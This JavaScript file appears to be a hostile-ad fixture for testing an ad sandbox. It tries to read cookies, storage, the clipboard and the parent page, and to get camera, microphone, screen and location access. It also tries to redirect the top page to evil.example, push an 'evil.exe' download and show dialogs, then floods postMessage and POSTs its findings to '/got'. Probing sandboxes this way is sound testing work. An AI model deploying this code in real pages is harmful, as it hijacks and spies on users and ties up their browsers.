/** An advertisement that tries for whatever it can get; `got` is what it got, by what it tried, told to its host. */
const got = {};

const patience = () =>
  new Promise((resolve) => {
    AbortSignal.timeout(1500).addEventListener('abort', () => resolve());
  });

async function attempt(name, take) {
  try {
    const taken = await Promise.race([take(), patience()]);
    got[name] = taken === undefined || taken === null || taken === false || taken === '' ? 'nothing' : String(taken);
  } catch (error) {
    got[name] = `refused: ${error.name}`;
  }
}

const tell = (path, what) => void fetch(path, { method: 'POST', mode: 'no-cors', body: JSON.stringify(what) });
const follow = () => parent.postMessage({ type: 'ad.followed', address: 'https://evil.example/' }, '*');

const opened = (name, options) =>
  new Promise((resolve, reject) => {
    const request = indexedDB.open(name, options);
    request.addEventListener('success', () => resolve('a database'));
    request.addEventListener('error', () => reject(request.error));
  });

function pressLink(attributes) {
  const link = Object.assign(document.createElement('a'), attributes);
  document.body.append(link);
  link.click();
}

function submit(target) {
  const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/form', target });
  document.body.append(form);
  form.requestSubmit();
}

async function run() {
  await attempt('localStorage', () => localStorage.length + 1);
  await attempt('sessionStorage', () => sessionStorage.length + 1);
  await attempt('indexedDB', () => opened('taken'));
  await attempt('caches', () => caches.open('taken'));
  await attempt('cookies', () => ((document.cookie = 'ad=1; SameSite=None; Secure'), document.cookie));
  await attempt('files', () => navigator.storage.getDirectory());
  await attempt('storage access', async () => (await document.requestStorageAccess(), 'access'));
  await attempt('service worker', () => navigator.serviceWorker.register('/ad-worker.js'));
  await attempt('shared worker', () => new SharedWorker('/hostile-ad.js').port);
  await attempt("the page's document", () => parent.document.title);
  await attempt("the page's address", () => parent.location.href);
  await attempt("the page's storage", () => parent.localStorage.length + 1);
  await attempt("the page's frame", () => frameElement?.outerHTML);
  await attempt("the page's origin", () => (globalThis.origin === 'null' ? null : globalThis.origin));
  await attempt('ancestors', () => ((document.domain = 'localhost'), document.domain));
  await attempt('top navigation', () => ((top.location.href = 'https://evil.example/'), null));
  await attempt('top navigation by link', () => pressLink({ href: 'https://evil.example/', target: '_top' }));
  await attempt('top navigation by form', () => submit('_top'));
  await attempt('top navigation by window', () => open('https://evil.example/', '_top'));
  await attempt('a window', () => open('https://evil.example/', '_blank'));
  await attempt('a window without name', () => open('', '', 'popup'));
  await attempt('a window by link', () => pressLink({ href: 'https://evil.example/', target: '_blank' }));
  await attempt('a window by form', () => submit('_blank'));
  await attempt('a download', () => pressLink({ href: 'data:application/octet-stream,evil', download: 'evil.exe' }));
  await attempt('an alert', () => alert('evil'));
  await attempt('a question', () => confirm('evil'));
  await attempt('an answer', () => prompt('evil'));
  await attempt('printing', () => print());
  await attempt('the full screen', async () => (await document.documentElement.requestFullscreen(), 'full screen'));
  await attempt('the pointer', async () => (await document.documentElement.requestPointerLock(), document.pointerLockElement));
  await attempt('the place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject)));
  await attempt('the microphone', () => navigator.mediaDevices?.getUserMedia({ audio: true }));
  await attempt('the camera', () => navigator.mediaDevices?.getUserMedia({ video: true }));
  await attempt('the screen', () => navigator.mediaDevices?.getDisplayMedia());
  await attempt('notifications', async () => ((await Notification.requestPermission()) === 'granted' ? 'granted' : null));
  await attempt('the clipboard', () => navigator.clipboard?.readText());
  await attempt('a wake lock', () => navigator.wakeLock?.request('screen'));
  await attempt('a payment', () =>
    new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).show(),
  );
  await attempt('rights', () =>
    (document.featurePolicy?.allowedFeatures() ?? []).filter((name) => !/^(ch-|unload|private-state|client-hint)/.test(name)).join(' '),
  );
  document.body.style.cssText = 'position:fixed;inset:-9999px;width:99999px;height:99999px;background:red';
  resizeTo(2000, 2000);
  tell('/got', got);
  // Whoever drives the browser makes a press of every look into the page: until those are over nobody has pressed.
  for (let count = 0; count < 5; count += 1) await patience();
  for (let count = 0; count < 20_000; count += 1) follow();
  setInterval(() => {
    focus();
    document.body.focus();
    for (let count = 0; count < 50; count += 1) follow();
  }, 20);
  for (;;) {
    await patience();
    tell('/flooding', {});
  }
}

void run();
